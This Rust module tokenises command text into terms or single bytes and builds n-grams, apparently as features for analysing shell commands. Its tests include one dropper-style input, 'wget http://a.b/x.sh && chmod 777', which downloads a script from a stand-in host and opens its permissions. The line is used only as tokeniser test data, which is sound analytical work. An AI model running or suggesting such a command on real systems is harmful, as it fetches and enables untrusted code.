use super::{Mode, NgramRange};

/// Joins the tokens of one n-gram. Unit separator never appears in printable
/// command text, so `a\x1fb` cannot collide with the token `ab`.
pub const NGRAM_SEP: char = '\u{1f}';

/// Tokens are strings whose chars map one-to-one onto source bytes
/// (byte `b` is stored as `char::from(b)`), so arbitrary binary text stays total.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TokenSequence {
    pub tokens: Vec<String>,
    pub mode: Mode,
}

impl TokenSequence {
    pub fn len(&self) -> usize {
        self.tokens.len()
    }

    pub fn is_empty(&self) -> bool {
        self.tokens.is_empty()
    }
}

fn bytes_to_token(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| char::from(b)).collect()
}

/// Splits on every non-alphanumeric byte and keeps words of length >= 3. Case is preserved.
pub fn tokenize_term(text: &[u8]) -> TokenSequence {
    let tokens = text
        .split(|b| !b.is_ascii_alphanumeric())
        .filter(|w| w.len() >= 3)
        .map(bytes_to_token)
        .collect();
    TokenSequence {
        tokens,
        mode: Mode::TermLevel,
    }
}

/// One token per byte; nothing is dropped.
pub fn tokenize_char(text: &[u8]) -> TokenSequence {
    TokenSequence {
        tokens: text.iter().map(|&b| char::from(b).to_string()).collect(),
        mode: Mode::CharLevel,
    }
}

pub fn tokenize(text: &[u8], mode: Mode) -> TokenSequence {
    match mode {
        Mode::TermLevel => tokenize_term(text),
        Mode::CharLevel => tokenize_char(text),
    }
}

/// All contiguous n-grams for n in `range`, ordered by n then position.
pub fn ngrams(seq: &TokenSequence, range: NgramRange) -> Vec<String> {
    let toks = &seq.tokens;
    let mut out = Vec::with_capacity(ngram_count(toks.len(), range));
    for n in range.lo()..=range.hi() {
        for window in toks.windows(n) {
            let mut g = String::with_capacity(window.iter().map(String::len).sum::<usize>() + n);
            for (i, t) in window.iter().enumerate() {
                if i > 0 {
                    g.push(NGRAM_SEP);
                }
                g.push_str(t);
            }
            out.push(g);
        }
    }
    out
}

/// Closed form for the number of n-grams: sum over n of max(0, len - n + 1).
pub fn ngram_count(len: usize, range: NgramRange) -> usize {
    (range.lo()..=range.hi()).map(|n| (len + 1).saturating_sub(n)).sum()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn toks(seq: &TokenSequence) -> Vec<&str> {
        seq.tokens.iter().map(String::as_str).collect()
    }

    #[test]
    fn term_split_and_filter() {
        let s = tokenize_term(b"wget http://a.b/x.sh && chmod 777");
        assert_eq!(toks(&s), ["wget", "http", "chmod", "777"]);
        assert_eq!(toks(&tokenize_term(b"cd /tmp")), ["tmp"]);
        assert!(tokenize_term(b"").is_empty());
        assert_eq!(toks(&tokenize_term(b"GET get")), ["GET", "get"]);
    }

    #[test]
    fn char_tokens() {
        assert_eq!(toks(&tokenize_char(b"cd /a")), ["c", "d", " ", "/", "a"]);
        assert_eq!(toks(&tokenize_char(b"||")), ["|", "|"]);
        assert_eq!(tokenize_char(b"\xff\x00").len(), 2);
    }

    #[test]
    fn ngram_windows() {
        let seq = TokenSequence {
            tokens: vec!["a".into(), "b".into(), "c".into()],
            mode: Mode::CharLevel,
        };
        let g = ngrams(&seq, NgramRange::new(1, 2).unwrap());
        assert_eq!(g, ["a", "b", "c", "a\u{1f}b", "b\u{1f}c"]);

        let one = TokenSequence {
            tokens: vec!["a".into()],
            mode: Mode::CharLevel,
        };
        assert!(ngrams(&one, NgramRange::new(2, 5).unwrap()).is_empty());
    }

    proptest! {
        #[test]
        fn tokenizers_are_total(text in proptest::collection::vec(any::<u8>(), 0..200), lo in 1usize..4, extra in 0usize..4) {
            let c = tokenize_char(&text);
            prop_assert_eq!(c.len(), text.len());
            prop_assert!(c.tokens.iter().all(|t| t.chars().count() == 1));
            let t = tokenize_term(&text);
            prop_assert!(t.tokens.iter().all(|w| w.len() >= 3 && w.bytes().all(|b| b.is_ascii_alphanumeric())));
            let r = NgramRange::new(lo, lo + extra).unwrap();
            prop_assert_eq!(ngrams(&c, r).len(), ngram_count(c.len(), r));
            prop_assert_eq!(ngrams(&t, r).len(), ngram_count(t.len(), r));
        }
    }
}
